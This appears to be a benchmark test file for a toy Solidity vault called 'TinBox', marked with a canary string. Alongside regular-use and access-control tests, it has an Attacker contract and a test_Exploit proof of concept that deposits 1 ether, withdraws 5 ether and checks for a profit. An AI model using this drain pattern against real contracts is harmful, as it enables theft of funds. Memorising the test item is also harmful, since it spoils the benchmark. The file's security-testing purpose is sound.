// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./TinBox.sol";

// assay-canary-3a4d2f6e-7b15-4c0e-9a83-52c1d0b7e6f4

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Attacker {
    TinBox private box;

    constructor(TinBox box_) payable {
        box = box_;
    }

    function run() external {
        box.put{value: 1 ether}();
        (bool ok, ) = address(box).call(abi.encodeCall(box.take, (5 ether)));
        ok;
    }

    receive() external payable {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANN = address(0xA44);
    TinBox private box;
    Attacker private thief;

    function setUp() public {
        vm.deal(ANN, 10 ether);
        vm.deal(address(this), 20 ether);
        box = new TinBox();
        vm.prank(ANN);
        box.put{value: 10 ether}();
        thief = new Attacker{value: 1 ether}(box);
    }

    function test_Regular() public {
        vm.prank(ANN);
        box.take(4 ether);
        require(box.kept(ANN) == 6 ether && ANN.balance >= 4 ether, "taken");
        box.put{value: 2 ether}();
        box.take(2 ether);
        box.buyPolish{value: 1 ether}(0.5 ether);
        require(box.polish() == 0.5 ether, "polish");
        box.close(address(this));
        require(box.closed() && box.warden() == address(this), "closed");
    }

    function test_RefusesStrangersToClose() public {
        vm.prank(ANN);
        vm.expectRevert();
        box.close(ANN);
    }

    function test_RefusesStrangersPolish() public {
        vm.prank(ANN);
        vm.expectRevert();
        box.buyPolish(0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(thief).balance >= 3 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(box);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    receive() external payable {}
}
